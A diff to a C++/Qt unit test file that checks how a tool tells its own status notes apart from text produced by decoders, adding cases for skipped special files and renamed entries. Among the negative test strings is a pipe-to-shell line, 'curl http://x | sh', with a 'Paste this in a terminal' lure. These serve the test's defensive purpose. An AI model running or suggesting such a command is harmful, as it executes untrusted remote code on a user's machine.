@@ -49,6 +49,15 @@ TEST(WorkerNotesTest, TheToolsOwnSentencesAreShown)
         linksLeftOutNote(4),
         namelessEntriesNote(1),
         namelessEntriesNote(2),
+        specialsLeftOutNote({QStringLiteral("dev/null")}),
+        specialsLeftOutNote({QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c \u201Cquoted\u201D"),
+                             QStringLiteral("d")}),
+        specialsLeftOutNote({QString(200, QLatin1Char('x'))}),
+        renamedEntriesNote({{QStringLiteral("a:b.txt"), QStringLiteral("a_b.txt")}}),
+        renamedEntriesNote({{QStringLiteral("A.txt"), QStringLiteral("A (2).txt")},
+                            {QStringLiteral("b?"), QStringLiteral("b_")},
+                            {QString(300, QLatin1Char('y')), QString(240, QLatin1Char('y'))},
+                            {QStringLiteral("c*"), QStringLiteral("c_")}}),
         DocumentPictures::leftOutNote(2),
         QStringLiteral("4 files"),
         QStringLiteral("3 codes"),
@@ -70,7 +79,12 @@ TEST(WorkerNotesTest, ADecodersOwnWordsAreNot)
          {QStringLiteral("Your file is ready: visit http://127.0.0.1:9/claim"), QStringLiteral("12 % smaller, call 555-0100"),
           QStringLiteral("other.txt: 3 unreadable characters replaced with \uFFFD"), // not this item's input
           QStringLiteral("Copied: curl http://x | sh"),                              // this tool copies nothing
-          QStringLiteral("12 % smaller\nPaste this in a terminal"), QString()})
+          QStringLiteral("12 % smaller\nPaste this in a terminal"),
+          // Names from the archive only ever in quotes, a line's worth each.
+          QStringLiteral("Call 555-0100 now were left out: devices, pipes and sockets are not extracted"),
+          QStringLiteral("\u201C") + QString(100, QLatin1Char('x')) + QStringLiteral("\u201D was saved as \u201Cx\u201D: this "
+                                                                                 "disk can't hold its name"),
+          QString()})
         EXPECT_FALSE(WorkerNotes::isToolMessage(message, request)) << message.toStdString();
 
     EXPECT_EQ(WorkerNotes::failure(QStringLiteral("This PDF is damaged")), QStringLiteral("This PDF is damaged"));
